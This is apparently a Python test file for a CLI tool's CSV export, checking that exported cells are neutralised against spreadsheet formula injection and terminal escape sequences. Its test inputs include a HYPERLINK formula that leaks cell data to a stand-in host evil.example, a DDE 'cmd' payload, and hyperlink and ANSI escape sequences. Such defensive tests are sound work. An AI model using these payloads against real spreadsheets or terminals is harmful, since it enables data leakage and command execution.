"""Outcomes for a spreadsheet: one writer, whose cells run no formula and no escape sequence."""

from __future__ import annotations

import csv
import io
import unicodedata
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from actui import exitcodes
from actui.cli import main
from actui.console.views.outcomes import OUTCOME_COLUMNS, Filter, Person
from actui.context.context import AppContext
from actui.context.services import OutcomeService
from actui.model.connection import Connection
from actui.model.errors import ConfigError
from actui.model.journal import BatchCommit
from actui.model.omitted import Omitted, OmittedValues
from actui.model.run import GoalSummary, Outcome, Reason, Record
from actui.operations.spreadsheet import cell, csv_lines, save_csv

NEWS = Connection.model_validate({"id": "c-1", "name": "News"})
STRANGE = '=HYPERLINK("https://evil.example/?"&A1,"Jos\u00e9")'
SIGNS = "=+-@\uff1d\uff0b\uff0d\uff20"


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("ann@example.org", "ann@example.org"),
        ("", ""),
        ("12431", "12431"),
        ("2026-11-27T10:00:00Z", "2026-11-27T10:00:00Z"),
        ("a=b", "a=b"),
        ("'=1+1", "'=1+1"),
        (STRANGE, f"'{STRANGE}"),
        ("@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"),
        ("-5", "'-5"),
        ("+31612345678@example.org", "'+31612345678@example.org"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("  =1+1", "'  =1+1"),
        ("\u200b\u00a0=1+1", "'\u200b\u00a0=1+1"),
        ("\ufeff@SUM(1)", "'\ufeff@SUM(1)"),
        ("\t=1+1", "' =1+1"),
        ("\tx", "' x"),
        ("\rx", "' x"),
        ("\nx", "' x"),
        ("\x1b[31m=1+1\x1b[0m", "'=1+1"),
        ("\x1b]8;;https://evil.example\x07click\x1b]8;;\x07", "click"),
        ("\x1b]0;title\x1b\\a", "a"),
        ("\x1bPq#0\x1b\\a\x1b(Bb", "ab"),
        ("\x9b31ma\x9d0;title\x9cb", "ab"),
        ("a\x00\x07\x7fb", "ab"),
        ("a\u202eb", "ab"),
        ("x;=1+1", "x;'=1+1"),
        ('x; "@SUM(1)', "x; \"'@SUM(1)"),
        ("two\r\nlines", "two  lines"),
        ("\ud800", "\ufffd"),
    ],
)
def test_a_cell_is_text_wherever_it_is_opened(text: str, shown: str) -> None:
    assert cell(text) == shown


@given(st.text(st.characters(codec=None) | st.sampled_from(SIGNS + "\t\r\n;\x1b[ ")))
def test_no_text_becomes_a_formula_or_acts_on_a_terminal(text: str) -> None:
    for shown in (cell(text), cell(text, raw=True)):
        assert not any(unicodedata.category(one) in ("Cc", "Cs") for one in shown)
    shown = cell(text)
    assert not shown.strip().startswith(tuple(SIGNS))
    assert all(not part.strip(' "').startswith(tuple(SIGNS)) for part in shown.split(";"))
    assert cell(text, raw=True).replace("'", "") == shown.replace("'", "")


@given(st.lists(st.text(), max_size=5))
def test_every_file_is_read_back_as_it_was_written(texts: list[str]) -> None:
    people = [Person("r1", "g-1", "rejected", detail=text, email=text) for text in texts]
    for raw in (False, True):
        written = b"".join(csv_lines(NEWS, people, raw=raw))
        assert written.startswith(b"\xef\xbb\xbf") is not raw
        assert written.count(b"\r\n") == written.count(b"\n") == len(texts) + 1
        text = written.decode("utf-8" if raw else "utf-8-sig")
        read = list(csv.DictReader(io.StringIO(text, newline="")))
        assert [(row["detail"], row["email"]) for row in read] == [
            (cell(one, raw=raw), cell(one, raw=raw)) for one in texts
        ]


@pytest.fixture
def context(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> AppContext:
    """A home with a connection whose last run met one person with a strange address."""
    monkeypatch.setenv("ACTUI_HOME", str(tmp_path / "home"))
    opened = AppContext.open()
    connection = opened.connections.save(NEWS).connection
    omitted = Omitted((OmittedValues("%AGE%", "which are no dates", 2),))
    email = "=1+1\x1b[31m@\u00e9xample.org"
    record = Record(Outcome.REJECTED, Reason.INVALID_EMAIL, STRANGE, email=email, omitted=omitted)
    summary = GoalSummary(goal="In", goal_id="g-1", kind="import")
    with opened.ledger(connection) as ledger:
        ledger.runs.begin("r1", "manual", "2026-01-01T00:00:00Z", 1)
        ledger.commits.write("r1", "g-1", BatchCommit([("7", record, None)]), summary)
    return opened


def test_a_pipe_a_file_and_the_console_get_the_same_bytes(
    context: AppContext, tmp_path: Path, capfdbinary: pytest.CaptureFixture[bytes]
) -> None:
    assert main(["outcomes", "News", "--csv"]) == exitcodes.OK
    printed, _ = capfdbinary.readouterr()
    file = tmp_path / "people.csv"
    assert main(["outcomes", "News", "--to", str(file)]) == exitcodes.OK
    assert capfdbinary.readouterr()[0] == f"1 line written to {file}.\n".encode()
    from_console = tmp_path / "console.csv"
    OutcomeService(context).export(
        context.connections.find("News").connection, "r1", Filter(), str(from_console)
    )
    assert printed == file.read_bytes() == from_console.read_bytes()
    assert file.stat().st_mode & 0o777 == 0o600
    (row,) = csv.DictReader(io.StringIO(printed.decode("utf-8-sig"), newline=""))
    assert list(row) == list(OUTCOME_COLUMNS)
    assert row["detail"] == f"'{STRANGE}"
    assert row["email"] == "'=1+1@\u00e9xample.org"
    assert row["omitted"] == "%AGE%: 2 values omitted, which are no dates"

    assert main(["outcomes", "News", "--csv", "--raw"]) == exitcodes.OK
    raw, _ = capfdbinary.readouterr()
    assert raw.startswith(b"run,goal,")
    (row,) = csv.DictReader(io.StringIO(raw.decode(), newline=""))
    assert (row["detail"], row["email"]) == (STRANGE, "=1+1@\u00e9xample.org")


def test_no_file_is_replaced(context: AppContext, tmp_path: Path) -> None:
    file = tmp_path / "people.csv"
    file.write_text("mine")
    assert main(["outcomes", "News", "--to", str(file)]) == exitcodes.USAGE
    assert file.read_text() == "mine"
    with pytest.raises(ConfigError, match="cannot be written"):
        save_csv(tmp_path / "none" / "x.csv", NEWS, [])
